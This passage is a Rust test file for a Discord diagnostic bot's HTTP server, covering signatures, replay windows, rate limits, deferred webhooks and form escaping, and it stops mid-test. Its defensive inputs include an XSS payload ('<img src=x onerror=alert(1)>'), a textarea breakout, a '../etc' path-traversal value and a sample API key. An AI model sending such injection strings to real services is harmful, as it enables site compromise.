//! The HTTP front door (`clawmedic serve`), driven in-process with `tower::ServiceExt::oneshot`
//! and over real loopback sockets: Discord's signed interactions (PING, commands, bad and stale
//! signatures, malformed and oversized bodies, the deferred path with a follow-up to a fake
//! webhook), the JSON API and the form page, rate limits, health, readiness, metrics, graceful
//! shutdown, and two replicas sharing thread memory through PostgreSQL (when
//! `DATABASE_URL_PG` is set; required when `CI` is set).
//!
//! Interactions are signed with a fixed test key pair; the expected replies are computed by
//! calling the gateway bot's own handler (`handle_interaction`) on the same payload, so the
//! tests also prove the HTTP door shares that code rather than copying it.

#[path = "support/http_harness.rs"]
mod harness;

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{header, Method, Request, StatusCode};
use axum::Router;
use clawmedic::app::interactions::{handle_interaction, Deps, Interaction};
use clawmedic::config::BotSettings;
use clawmedic::http::config::RateLimit;
use clawmedic::http::{router, AppState};
use clawmedic::lang::Locale;
use clawmedic::render::{json::json as report_json, t, tr};
use clawmedic::store::testing::{FailingStore, SlowStore};
use clawmedic::store::{MemoryStore, ThreadKey};
use clawmedic::{diagnose_thread, Options};
use harness::*;
use serde_json::{json, Value};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;
use tower::ServiceExt;

const PROBE_PASTE: &str = include_str!("../examples/pastes/probe-excluded.txt");
const PIN: &str = "/model openai-codex/gpt-5.4@openai-codex:sam.lee@example.net";

const BANNER: &str = "The Discord channel keeps answering every message with this:
⚠️ Model login expired on the gateway for openai-codex. Re-auth with `openclaw models auth login --provider openai-codex`, then try again.";

const PROBE_ONLY: &str = "Auth probes
┌──────────────────────┬────────────────────────────────────────────────────────────────┬─────────────────────────────────────────────┐
│ Model                │ Profile                                                        │ Status                                      │
├──────────────────────┼────────────────────────────────────────────────────────────────┼─────────────────────────────────────────────┤
│ openai-codex/gpt-5.4 │ openai-codex:default (oauth)                                   │ unknown · -                                 │
│                      │                                                                │ ↳ Excluded by auth.order for this provider. │
│ openai-codex/gpt-5.4 │ openai-codex:sam.lee@example.net (sam.lee@example.net) (oauth) │ ok · 9.6s                                   │
└──────────────────────┴────────────────────────────────────────────────────────────────┴─────────────────────────────────────────────┘
Probed 2 targets in 9.6s";

const VERSION_LINE: &str = "OpenClaw version: 2026.5.12";

const AUTH_ORDER: &str =
    "Agent: main\nProvider: openai-codex\nOrder override: openai-codex:sam.lee@example.net";

// ---------------------------------------------------------------------------------------------
// Helpers

fn app(state: &AppState) -> Router {
    router(state.clone())
}

async fn send(app: &Router, req: Request<Body>) -> (StatusCode, axum::http::HeaderMap, Vec<u8>) {
    let callback = req.uri().path() == "/interactions";
    let res = app.clone().oneshot(req).await.expect("the router answers");
    let status = res.status();
    let headers = res.headers().clone();
    let body = axum::body::to_bytes(res.into_body(), usize::MAX).await.unwrap().to_vec();
    // The HTTP door's callback is its response: Discord's contract holds for it too.
    if callback && status == StatusCode::OK {
        let path = "/api/v10/interactions/0/token/callback";
        if let Some(v) = harness::discord_contract::check("POST", path, &body) {
            panic!("the interaction response breaks Discord's OpenAPI contract: {v}");
        }
    }
    (status, headers, body)
}

async fn send_json(app: &Router, req: Request<Body>) -> (StatusCode, Value) {
    let (status, _, body) = send(app, req).await;
    let v = serde_json::from_slice(&body)
        .unwrap_or_else(|_| panic!("not JSON ({status}): {}", String::from_utf8_lossy(&body)));
    (status, v)
}

/// What the gateway bot's own handler answers for this payload, on a fresh memory store.
async fn expected(payload: &Value) -> clawmedic::app::interactions::InteractionOutcome {
    let deps = Deps::new(Arc::new(MemoryStore::new()), BotSettings::default()).expect("deps");
    handle_interaction(&deps, &typed(payload)).await
}

/// The payload as serenity's typed interaction (what the endpoint deserialises it into).
fn typed(payload: &Value) -> Interaction {
    serde_json::from_value(payload.clone()).expect("a Discord interaction")
}

fn body_of(v: &Value) -> Vec<u8> {
    serde_json::to_vec(v).unwrap()
}

fn memory_state(webhook: &str) -> AppState {
    state(config(webhook), Arc::new(MemoryStore::new()))
}

fn footer(reply: &Value) -> String {
    reply["data"]["embeds"]
        .as_array()
        .and_then(|e| e.last())
        .and_then(|e| e.pointer("/footer/text"))
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_string()
}

fn api_request(body: Value, ip: &str) -> Request<Body> {
    let mut req = Request::builder()
        .method(Method::POST)
        .uri("/api/diagnose")
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(body_of(&body)))
        .unwrap();
    req.extensions_mut().insert(ConnectInfo(format!("{ip}:40000").parse::<SocketAddr>().unwrap()));
    req
}

// ---------------------------------------------------------------------------------------------
// Interactions: signatures and exact responses (in-process)

#[tokio::test]
async fn valid_ping_is_answered_with_pong() {
    let st = memory_state("http://127.0.0.1:9");
    let (status, headers, body) =
        send(&app(&st), signed_request(&signing_key(), now(), body_of(&ping()))).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers[header::CONTENT_TYPE], "application/json");
    assert_eq!(serde_json::from_slice::<Value>(&body).unwrap(), json!({ "type": 1 }));
}

#[tokio::test]
async fn valid_command_gets_the_gateway_handlers_reply() {
    let st = memory_state("http://127.0.0.1:9");
    let payload =
        diagnose(1_310_000_000_000_001_001, 1_310_000_000_000_002_001, "en-US", PROBE_PASTE);
    let (status, reply) =
        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&payload))).await;
    assert_eq!(status, StatusCode::OK);
    let want = expected(&payload).await;
    assert!(want.followups.is_empty());
    assert_eq!(
        reply,
        want.response.to_value(),
        "the HTTP door answers exactly what the shared handler makes"
    );
    assert_eq!(reply["type"], 4);
    assert!(reply.to_string().contains(PIN), "{reply}");
    assert_eq!(footer(&reply), "clawmedic · session_pin_stale · en");
    // Remembered in the thread, like the gateway bot does.
    let mem = st.store.load(&ThreadKey::discord(1_310_000_000_000_002_001)).await.unwrap().unwrap();
    assert_eq!(mem.messages, 1);
    assert_eq!(mem.version.as_deref(), Some("2026.5.12"));
}

#[tokio::test]
async fn bad_signatures_are_refused_with_401_before_the_body_is_read() {
    let st = memory_state("http://127.0.0.1:9");
    let app = app(&st);
    let body = body_of(&ping());
    let refused = json!({ "error": "invalid_signature" });
    // Signed by another key.
    let (s, v) = send_json(&app, signed_request(&wrong_key(), now(), body.clone())).await;
    assert_eq!((s, v), (StatusCode::UNAUTHORIZED, refused.clone()));
    // The body changed after signing.
    let mut req = signed_request(&signing_key(), now(), body.clone());
    *req.body_mut() = Body::from(br#"{"type":2}"#.to_vec());
    assert_eq!(send_json(&app, req).await, (StatusCode::UNAUTHORIZED, refused.clone()));
    // No headers at all; a signature that is not hex; a timestamp that is not a number.
    let bare = Request::builder()
        .method(Method::POST)
        .uri("/interactions")
        .body(Body::from(body.clone()))
        .unwrap();
    assert_eq!(send_json(&app, bare).await, (StatusCode::UNAUTHORIZED, refused.clone()));
    let mut req = signed_request(&signing_key(), now(), body.clone());
    req.headers_mut().insert("x-signature-ed25519", "not-hex".parse().unwrap());
    assert_eq!(send_json(&app, req).await, (StatusCode::UNAUTHORIZED, refused.clone()));
    let mut req = signed_request(&signing_key(), now(), body.clone());
    req.headers_mut().insert("x-signature-timestamp", "soon".parse().unwrap());
    assert_eq!(send_json(&app, req).await, (StatusCode::UNAUTHORIZED, refused.clone()));
    // A bad signature on garbage is 401 too, not 400: nothing parses an unsigned body.
    let mut req = signed_request(&wrong_key(), now(), b"{not json".to_vec());
    req.headers_mut().insert(header::CONTENT_TYPE, "application/json".parse().unwrap());
    assert_eq!(send_json(&app, req).await, (StatusCode::UNAUTHORIZED, refused));
    let metrics = st.metrics.encode();
    assert!(
        metrics.contains(r#"clawmedic_interaction_rejections_total{reason="bad_signature"} 3"#),
        "{metrics}"
    );
    assert!(
        metrics.contains(r#"clawmedic_interaction_rejections_total{reason="malformed"} 3"#),
        "{metrics}"
    );
}

#[tokio::test]
async fn replayed_old_and_future_timestamps_are_refused() {
    let st = memory_state("http://127.0.0.1:9");
    let app = app(&st);
    let body = body_of(&ping());
    let stale = (StatusCode::UNAUTHORIZED, json!({ "error": "stale_timestamp" }));
    // A genuine request captured six minutes ago and replayed now.
    assert_eq!(
        send_json(&app, signed_request(&signing_key(), now() - 360, body.clone())).await,
        stale
    );
    // Just past the five-minute window, both ways.
    assert_eq!(
        send_json(&app, signed_request(&signing_key(), now() - 302, body.clone())).await,
        stale
    );
    assert_eq!(
        send_json(&app, signed_request(&signing_key(), now() + 302, body.clone())).await,
        stale
    );
    // Inside the window it is fine (clock skew).
    let ok = send_json(&app, signed_request(&signing_key(), now() - 240, body.clone())).await;
    assert_eq!(ok, (StatusCode::OK, json!({ "type": 1 })));
    let ok = send_json(&app, signed_request(&signing_key(), now() + 240, body)).await;
    assert_eq!(ok, (StatusCode::OK, json!({ "type": 1 })));
}

#[tokio::test]
async fn malformed_json_is_400_after_a_valid_signature() {
    let st = memory_state("http://127.0.0.1:9");
    let app = app(&st);
    for bad in [&b"{not json"[..], b"", b"[1,2,3]", b"\"type\""] {
        let got = send_json(&app, signed_request(&signing_key(), now(), bad.to_vec())).await;
        assert_eq!(
            got,
            (StatusCode::BAD_REQUEST, json!({ "error": "malformed_json" })),
            "{}",
            String::from_utf8_lossy(bad)
        );
    }
}

#[tokio::test]
async fn oversized_bodies_are_413() {
    let mut cfg = config("http://127.0.0.1:9");
    cfg.interaction_max_body = 64 * 1024;
    let st = state(cfg, Arc::new(MemoryStore::new()));
    let app = app(&st);
    let paste = "x".repeat(64 * 1024);
    let payload = diagnose(1_310_000_000_000_001_002, 1_310_000_000_000_002_002, "en-US", &paste);
    let want = (StatusCode::PAYLOAD_TOO_LARGE, json!({ "error": "body_too_large" }));
    // Declared too large (Content-Length).
    assert_eq!(
        send_json(&app, signed_request(&signing_key(), now(), body_of(&payload))).await,
        want
    );
    // Streamed without a length: cut off at the limit all the same.
    let mut req = signed_request(&signing_key(), now(), Vec::new());
    let chunks: Vec<Result<Vec<u8>, std::io::Error>> =
        body_of(&payload).chunks(8192).map(|c| Ok(c.to_vec())).collect();
    *req.body_mut() = Body::from_stream(futures_util::stream::iter(chunks));
    req.headers_mut().remove(header::CONTENT_LENGTH);
    assert_eq!(send_json(&app, req).await, want);
    // Just under the limit is read and handled.
    let small =
        diagnose(1_310_000_000_000_001_003, 1_310_000_000_000_002_003, "en-US", &"y".repeat(1000));
    let (s, v) = send_json(&app, signed_request(&signing_key(), now(), body_of(&small))).await;
    assert_eq!((s, v["type"].clone()), (StatusCode::OK, json!(4)));
}

#[tokio::test]
async fn without_a_public_key_the_endpoint_is_unavailable() {
    let mut cfg = config("http://127.0.0.1:9");
    cfg.public_key = None;
    let st = state(cfg, Arc::new(MemoryStore::new()));
    let got = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&ping()))).await;
    assert_eq!(
        got,
        (StatusCode::SERVICE_UNAVAILABLE, json!({ "error": "interactions_not_configured" }))
    );
}

// ---------------------------------------------------------------------------------------------
// The deferred path

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_handling_is_deferred_and_finished_through_the_webhook() {
    let hook = FakeWebhook::start().await;
    let mut cfg = config(&hook.base);
    cfg.defer_after = Duration::from_millis(200);
    cfg.settings.store_timeout = Duration::from_secs(5);
    cfg.settings.shutdown_grace = Duration::from_secs(10);
    // Each store call takes 700 ms: load + append ≈ 1.4 s, far past the 200 ms budget.
    let slow = Arc::new(SlowStore::new(Arc::new(MemoryStore::new()), Duration::from_millis(700)));
    let st = state(cfg, slow);
    let app = app(&st);
    let id = 1_310_000_000_000_001_010;
    let payload = diagnose(id, 1_310_000_000_000_002_010, "de", PROBE_PASTE);
    let (status, reply) =
        send_json(&app, signed_request(&signing_key(), now(), body_of(&payload))).await;
    assert_eq!((status, reply), (StatusCode::OK, json!({ "type": 5 })));
    // Ordering, not time: the deferral is the answer while the slow store is still working, so
    // nothing has reached the webhook yet.
    assert!(hook.hits().is_empty(), "the deferral came before the reply");
    let hits = hook.wait_for(1).await;
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].method, "POST");
    assert_eq!(hits[0].path, format!("/api/v10/webhooks/{APP_ID}/{}", token(id)));
    let want = expected(&payload).await;
    assert_eq!(
        hits[0].body,
        want.response.to_value()["data"],
        "the follow-up is exactly the reply the handler made"
    );
    assert!(hits[0].body.to_string().contains(PIN));
    // Marked with the cause; English, the language of the paste's prose (it wins over the
    // user's Discord locale, `de`).
    let f = hits[0].body["embeds"][0]["footer"]["text"].as_str().unwrap().to_string();
    assert_eq!(f, "clawmedic · session_pin_stale · en");
    // Nothing runs in the background any more; metrics saw one deferral and one follow-up.
    assert!(st.background.wait_idle(Duration::from_secs(5)).await);
    let m = st.metrics.encode();
    assert!(
        m.contains(r#"clawmedic_interactions_total{kind="command",response="deferred"} 1"#),
        "{m}"
    );
    assert!(m.contains(r#"clawmedic_followups_total{result="ok"} 1"#), "{m}");
    assert!(m.contains(r#"clawmedic_diagnoses_total{front_door="interactions",cause="session_pin_stale",locale="en"} 1"#), "{m}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deferred_component_is_ephemeral_and_follow_ups_are_retried() {
    let hook = FakeWebhook::start().await;
    // Discord has a bad moment: one 503, then the follow-up goes through.
    hook.fail_first(&[503]);
    let mut cfg = config(&hook.base);
    cfg.defer_after = Duration::from_millis(100);
    cfg.settings.store_timeout = Duration::from_secs(5);
    let channel = 1_310_000_000_000_002_020;
    let inner = Arc::new(MemoryStore::new());
    // The thread remembers a diagnosis: "Show in …" re-renders it from memory.
    let fast = Deps::new(inner.clone(), BotSettings::default()).expect("deps");
    handle_interaction(
        &fast,
        &typed(&diagnose(1_310_000_000_000_001_019, channel, "en-US", PROBE_PASTE)),
    )
    .await;
    let st = state(cfg, Arc::new(SlowStore::new(inner.clone(), Duration::from_millis(400))));
    let id = 1_310_000_000_000_001_020;
    let press = component(id, channel, "en-US", &format!("cm:show:{channel}:1"), Some(vec!["fr"]));
    let (status, reply) =
        send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&press))).await;
    assert_eq!((status, reply), (StatusCode::OK, json!({ "type": 5, "data": { "flags": 64 } })));
    let hits = hook.wait_for(2).await;
    let want = handle_interaction(&fast, &typed(&press)).await.response.to_value();
    assert_eq!(hits[0].body, want["data"]);
    assert_eq!(hits[1].body, want["data"], "retried with the same body");
    assert_eq!(hits[1].body["flags"], 64);
    assert!(hits[1].body["embeds"][0]["footer"]["text"].as_str().unwrap().ends_with("· fr"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn autocomplete_is_never_deferred() {
    let hook = FakeWebhook::start().await;
    let mut cfg = config(&hook.base);
    cfg.defer_after = Duration::from_millis(100);
    cfg.settings.store_timeout = Duration::from_secs(5);
    let st = state(
        cfg,
        Arc::new(SlowStore::new(Arc::new(MemoryStore::new()), Duration::from_millis(600))),
    );
    let payload = autocomplete_profile(1_310_000_000_000_001_030, 1_310_000_000_000_002_030, "sam");
    let got = send_json(&app(&st), signed_request(&signing_key(), now(), body_of(&payload))).await;
    assert_eq!(got, (StatusCode::OK, json!({ "type": 8, "data": { "choices": [] } })));
    // Nothing was left running that could follow up later.
    assert!(st.background.wait_idle(Duration::from_secs(5)).await);
    assert!(hook.hits().is_empty(), "no follow-up for autocomplete");
}

// ---------------------------------------------------------------------------------------------
// A real loopback socket

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn over_a_loopback_socket_and_graceful_shutdown() {
    let hook = FakeWebhook::start().await;
    let mut cfg = config(&hook.base);
    cfg.defer_after = Duration::from_millis(150);
    cfg.settings.store_timeout = Duration::from_secs(5);
    let st = state(
        cfg,
        Arc::new(SlowStore::new(Arc::new(MemoryStore::new()), Duration::from_millis(500))),
    );
    let server = Running::start(st.clone()).await;
    let http = reqwest::Client::new();
    let post = |body: Vec<u8>, ts: u64, key: &ed25519_dalek::SigningKey| {
        let ts = ts.to_string();
        http.post(format!("{}/interactions", server.base))
            .header("content-type", "application/json")
            .header("x-signature-ed25519", sign(key, &ts, &body))
            .header("x-signature-timestamp", ts)
            .body(body)
    };
    let r = post(body_of(&ping()), now(), &signing_key()).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.json::<Value>().await.unwrap(), json!({ "type": 1 }));
    let r = post(body_of(&ping()), now(), &wrong_key()).send().await.unwrap();
    assert_eq!(r.status(), 401);
    assert_eq!(r.json::<Value>().await.unwrap(), json!({ "error": "invalid_signature" }));
    // A slow command: deferred over the socket; shutdown starts while the follow-up is pending
    // and waits for it.
    let id = 1_310_000_000_000_001_040;
    let payload = diagnose(id, 1_310_000_000_000_002_040, "en-US", PROBE_PASTE);
    let r = post(body_of(&payload), now(), &signing_key()).send().await.unwrap();
    assert_eq!(r.json::<Value>().await.unwrap(), json!({ "type": 5 }));
    let r = http.get(format!("{}/healthz", server.base)).send().await.unwrap();
    assert_eq!(
        (r.status().as_u16(), r.json::<Value>().await.unwrap()),
        (200, json!({ "status": "ok" }))
    );
    assert!(hook.hits().is_empty(), "the follow-up is still being prepared");
    server.shutdown().await.expect("clean shutdown");
    let hits = hook.hits();
    assert_eq!(hits.len(), 1, "shutdown waited for the pending follow-up");
    assert_eq!(hits[0].body, expected(&payload).await.response.to_value()["data"]);
    assert!(st.draining.load(std::sync::atomic::Ordering::SeqCst));
}

// ---------------------------------------------------------------------------------------------
// The JSON API, the form page, limits, health and metrics

#[tokio::test]
async fn api_returns_the_cli_json_contract() {
    let st = memory_state("http://127.0.0.1:9");
    let app = app(&st);
    let (status, v) =
        send_json(&app, api_request(json!({ "paste": PROBE_PASTE }), "192.0.2.1")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(v, report_json(&diagnose_thread(&[PROBE_PASTE], &Options::default())));
    assert_eq!(v["findings"][0]["cause"], "session_pin_stale");
    assert_eq!(v["findings"][0]["steps"][0]["command"], PIN);
    // A plain-text body is the paste; options as query parameters.
    let req = Request::builder()
        .method(Method::POST)
        .uri("/api/diagnose?lang=pt-BR&version=2026.5.12")
        .header(header::CONTENT_TYPE, "text/plain; charset=utf-8")
        .body(Body::from(PROBE_ONLY))
        .unwrap();
    let (status, v) = send_json(&app, req).await;
    assert_eq!(status, StatusCode::OK);
    let opts = Options {
        lang: Some("pt-BR"),
        openclaw_version: clawmedic::versions::Version::parse("2026.5.12"),
        ..Default::default()
    };
    assert_eq!(v, report_json(&diagnose_thread(&[PROBE_ONLY], &opts)));
    assert_eq!(v["locale"], "pt-BR");
    // Several messages of one thread.
    let (_, v) = send_json(
        &app,
        api_request(json!({ "messages": [BANNER, PROBE_ONLY], "lang": "ja" }), "192.0.2.1"),
    )
    .await;
    assert_eq!(
        v,
        report_json(&diagnose_thread(
            &[BANNER, PROBE_ONLY],
            &Options { lang: Some("ja"), ..Default::default() }
        ))
    );
}

#[tokio::test]
async fn api_errors_are_clear_and_localized() {
    let mut cfg = config("http://127.0.0.1:9");
    cfg.max_body = 2 * 1024 * 1024;
    let st = state(cfg, Arc::new(MemoryStore::new()));
    let app = app(&st);
    let cases = [
        (
            json!({ "paste": "   " }),
            StatusCode::BAD_REQUEST,
            "no_input",
            t(Locale::En, "error-no-input"),
        ),
        (json!({ "paste": "x", "lang": "de" , "messages": [] }), StatusCode::OK, "", String::new()),
        (
            json!({ "paste": PROBE_ONLY, "lang": "klingon" }),
            StatusCode::BAD_REQUEST,
            "unknown_lang",
            tr(
                Locale::En,
                &clawmedic::diagnose::Msg::new("error-unknown-lang")
                    .arg("lang", "klingon")
                    .arg("list", Locale::ALL.iter().map(|l| l.id()).collect::<Vec<_>>().join(", ")),
            ),
        ),
        (
            json!({ "messages": vec!["x"; 21], "lang": "de" }),
            StatusCode::PAYLOAD_TOO_LARGE,
            "too_large",
            tr(
                Locale::De,
                &clawmedic::diagnose::Msg::new("error-too-many-messages").arg("limit", "20"),
            ),
        ),
        (
            json!({ "paste": "x", "lang": "pt-BR", "thread": "../etc" }),
            StatusCode::BAD_REQUEST,
            "bad_thread",
            t(Locale::PtBr, "error-bad-thread"),
        ),
        (
            json!({ "paste": "a\u{0}b" }),
            StatusCode::BAD_REQUEST,
            "binary",
            tr(Locale::En, &clawmedic::diagnose::Msg::new("error-binary").arg("path", "paste")),
        ),
        (
            json!({ "paste": "z".repeat(clawmedic::MAX_MESSAGE_BYTES + 1) }),
            StatusCode::PAYLOAD_TOO_LARGE,
            "too_large",
            tr(
                Locale::En,
                &clawmedic::diagnose::Msg::new("error-too-large")
                    .arg("path", "paste")
                    .arg("limit", clawmedic::MAX_MESSAGE_BYTES.to_string()),
            ),
        ),
    ];
    for (body, status, error, message) in cases {
        let (s, v) = send_json(&app, api_request(body.clone(), "192.0.2.2")).await;
        assert_eq!(s, status, "{v}");
        if status != StatusCode::OK {
            assert_eq!(v, json!({ "error": error, "message": message }));
        }
    }
    // Past the body limit: refused before it is read.
    let (s, v) =
        send_json(&app, api_request(json!({ "paste": "q".repeat(3 * 1024 * 1024) }), "192.0.2.2"))
            .await;
    assert_eq!(s, StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(v["error"], "too_large");
    // Not JSON although it says so.
    let mut req = api_request(json!(null), "192.0.2.2");
    *req.body_mut() = Body::from("{oops");
    req.headers_mut().remove(header::CONTENT_LENGTH);
    let (s, v) = send_json(&app, req).await;
    assert_eq!(
        v,
        json!({ "error": "malformed_json", "message": t(Locale::En, "error-malformed-json") })
    );
    assert_eq!(s, StatusCode::BAD_REQUEST);
    // … in the language of `?lang=`.
    let mut req = api_request(json!(null), "192.0.2.2");
    *req.uri_mut() = "/api/diagnose?lang=ru".parse().unwrap();
    *req.body_mut() = Body::from("[1, 2]");
    req.headers_mut().remove(header::CONTENT_LENGTH);
    let (s, v) = send_json(&app, req).await;
    assert_eq!(
        (s, v),
        (
            StatusCode::BAD_REQUEST,
            json!({ "error": "malformed_json", "message": t(Locale::Ru, "error-malformed-json") })
        )
    );
}

/// Versions as `openclaw --version` prints them, and words like `latest`: never refused.
#[tokio::test]
async fn api_versions_as_users_write_them() {
    let st = memory_state("http://127.0.0.1:9");
    let app = app(&st);
    for (given, want) in [
        ("OpenClaw 2026.6.9", "2026.6.9"),
        ("2026.5.12 (a1b2c3d)", "2026.5.12"),
        ("V2026.5.12", "2026.5.12"),
    ] {
        let (s, v) = send_json(
            &app,
            api_request(json!({ "paste": PROBE_ONLY, "openclaw_version": given }), "192.0.2.30"),
        )
        .await;
        assert_eq!((s, v["openclaw_version"].clone()), (StatusCode::OK, json!(want)), "{given}");
    }
    let (s, v) = send_json(
        &app,
        api_request(
            json!({ "paste": PROBE_ONLY, "lang": "fr", "version": "latest" }),
            "192.0.2.31",
        ),
    )
    .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(v["openclaw_version"], Value::Null);
    let note = tr(
        Locale::Fr,
        &clawmedic::diagnose::Msg::new("note-version-not-a-release").arg("given", "latest"),
    );
    assert_eq!(v["notes"][0], json!(note));
    // A raw UTF-16 body (PowerShell) with the version as a query parameter.
    let mut body = vec![0xFF, 0xFE];
    body.extend(PROBE_ONLY.encode_utf16().flat_map(u16::to_le_bytes));
    let req = Request::post("/api/diagnose?openclaw_version=v2026.6.34")
        .header(header::CONTENT_TYPE, "text/plain")
        .extension(ConnectInfo(SocketAddr::from(([192, 0, 2, 32], 4000))))
        .body(Body::from(body))
        .unwrap();
    let (s, v) = send_json(&app, req).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(
        v,
        report_json(&diagnose_thread(
            &[PROBE_ONLY],
            &Options { unknown_version: Some("v2026.6.34"), ..Default::default() }
        ))
    );
}

#[tokio::test]
async fn per_ip_and_per_thread_rate_limits() {
    let mut cfg = config("http://127.0.0.1:9");
    cfg.per_ip = RateLimit { per_minute: 6, burst: 2 };
    cfg.per_thread = RateLimit { per_minute: 2, burst: 1 };
    let st = state(cfg, Arc::new(MemoryStore::new()));
    let app = app(&st);
    let body = json!({ "paste": PROBE_ONLY });
    assert_eq!(send(&app, api_request(body.clone(), "198.51.100.7")).await.0, StatusCode::OK);
    assert_eq!(send(&app, api_request(body.clone(), "198.51.100.7")).await.0, StatusCode::OK);
    let (s, headers, b) = send(&app, api_request(body.clone(), "198.51.100.7")).await;
    assert_eq!(s, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(headers[header::RETRY_AFTER], "10");
    let v: Value = serde_json::from_slice(&b).unwrap();
    let msg =
        tr(Locale::En, &clawmedic::diagnose::Msg::new("error-rate-limited").arg("seconds", "10"));
    assert_eq!(v, json!({ "error": "rate_limited", "message": msg }));
    // Another client is not affected; IPv6 neighbours in one /64 share a bucket.
    assert_eq!(send(&app, api_request(body.clone(), "198.51.100.8")).await.0, StatusCode::OK);
    assert_eq!(send(&app, api_request(body.clone(), "[2001:db8::1]")).await.0, StatusCode::OK);
    assert_eq!(send(&app, api_request(body.clone(), "[2001:db8::2]")).await.0, StatusCode::OK);
    assert_eq!(
        send(&app, api_request(body.clone(), "[2001:db8::3]")).await.0,
        StatusCode::TOO_MANY_REQUESTS
    );
    // One thread id, from different clients: limited per thread.
    let thread = json!({ "paste": PROBE_ONLY, "thread": "t-0123456789abcdef" });
    assert_eq!(send(&app, api_request(thread.clone(), "203.0.113.1")).await.0, StatusCode::OK);
    let (s, _, b) = send(&app, api_request(thread, "203.0.113.2")).await;
    assert_eq!(s, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(serde_json::from_slice::<Value>(&b).unwrap()["error"], "rate_limited");
    let m = st.metrics.encode();
    assert!(m.contains(r#"clawmedic_rate_limited_total{scope="ip"} 2"#), "{m}");
    assert!(m.contains(r#"clawmedic_rate_limited_total{scope="thread"} 1"#), "{m}");
}

#[tokio::test]
async fn api_thread_memory_reads_follow_ups_together() {
    let st = memory_state("http://127.0.0.1:9");
    let app = app(&st);
    let thread = "web-thread-0123456789";
    let (_, first) =
        send_json(&app, api_request(json!({ "paste": BANNER, "thread": thread }), "192.0.2.9"))
            .await;
    assert_ne!(first["findings"][0]["cause"], "session_pin_stale");
    let (_, second) =
        send_json(&app, api_request(json!({ "paste": PROBE_ONLY, "thread": thread }), "192.0.2.9"))
            .await;
    assert_eq!(second["findings"][0]["cause"], "session_pin_stale", "{second}");
    assert_eq!(second["findings"][0]["steps"][0]["command"], PIN);
    let mem = st
        .store
        .load(&ThreadKey { scope: "web".into(), id: thread.into() })
        .await
        .unwrap()
        .unwrap();
    assert_eq!(mem.messages, 2);
    let (s, v) =
        send_json(&app, api_request(json!({ "paste": "x", "thread": "../etc" }), "192.0.2.9"))
            .await;
    assert_eq!((s, v["error"].clone()), (StatusCode::BAD_REQUEST, json!("bad_thread")));
}

#[tokio::test]
async fn web_requests_time_out() {
    let mut cfg = config("http://127.0.0.1:9");
    cfg.request_timeout = Duration::from_millis(150);
    cfg.settings.store_timeout = Duration::from_secs(5);
    let st = state(
        cfg,
        Arc::new(SlowStore::new(Arc::new(MemoryStore::new()), Duration::from_millis(600))),
    );
    let (s, _, _) = send(
        &app(&st),
        api_request(
            json!({ "paste": PROBE_ONLY, "thread": "slow-thread-0123456789" }),
            "192.0.2.3",
        ),
    )
    .await;
    assert_eq!(s, StatusCode::REQUEST_TIMEOUT);
}

#[tokio::test]
async fn the_form_page_works_without_javascript_and_escapes_everything() {
    let st = memory_state("http://127.0.0.1:9");
    let app = app(&st);
    let get = Request::builder()
        .uri("/")
        .header(header::ACCEPT_LANGUAGE, "fa-IR,fa;q=0.9,en;q=0.5")
        .body(Body::empty())
        .unwrap();
    let (s, headers, page) = send(&app, get).await;
    let page = String::from_utf8(page).unwrap();
    assert_eq!(s, StatusCode::OK);
    assert!(headers[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap()
        .contains("script-src 'self'"));
    assert!(page.starts_with(r#"<!doctype html><html lang="fa" dir="rtl">"#), "{page}");
    assert!(
        page.contains(r#"<label for="paste">"#)
            && page.contains(r#"<textarea id="paste" name="paste""#)
    );
    // Submit the form, url-encoded as a browser does, with a hostile line in the paste.
    let paste = format!("{PROBE_PASTE}\n<img src=x onerror=alert(1)> \"quoted\" & 'single'");
    let form = format!("paste={}&lang=&version=&ui=en", form_urlencode(&paste));
    let post = Request::builder()
        .method(Method::POST)
        .uri("/")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(form))
        .unwrap();
    let (s, _, page) = send(&app, post).await;
    let page = String::from_utf8(page).unwrap();
    assert_eq!(s, StatusCode::OK);
    assert!(page.contains(&format!(r#"<code dir="ltr" id="cmd-1">{PIN}</code>"#)), "{page}");
    assert!(page.contains(r#"data-target="cmd-1""#));
    assert!(!page.contains("<img"), "user text is escaped");
    assert!(!page.contains("sk-"), "no secret shown");
    // The paste is not echoed back into the page.
    assert!(!page.contains("Probed 2 targets"), "the raw paste is not shown again");
    let script = send(&app, Request::builder().uri("/app.js").body(Body::empty()).unwrap()).await;
    assert_eq!(script.1[header::CONTENT_TYPE], "text/javascript; charset=utf-8");
}

fn form_post(form: String) -> Request<Body> {
    Request::builder()
        .method(Method::POST)
        .uri("/")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(form))
        .unwrap()
}

/// After an error the paste is back in the form (secrets redacted, escaped), so it need not
/// be pasted again; a version typed as `openclaw --version` prints it is read, and the note
/// about it is on the page.
#[tokio::test]
async fn the_form_keeps_the_paste_after_an_error_and_shows_version_notes() {
    let st = memory_state("http://127.0.0.1:9");
    let app = app(&st);
    let key = "sk-proj-hvkRYtW6ZCrNBQH4S7otNn9aCyZLzEyYaGomLaQM";
    let paste = format!(
        "{PROBE_PASTE}
apiKey: {key}
</textarea><b>x</b>"
    );
    let form = format!("paste={}&lang=klingon&version=&ui=de", form_urlencode(&paste));
    let (s, _, page) = send(&app, form_post(form)).await;
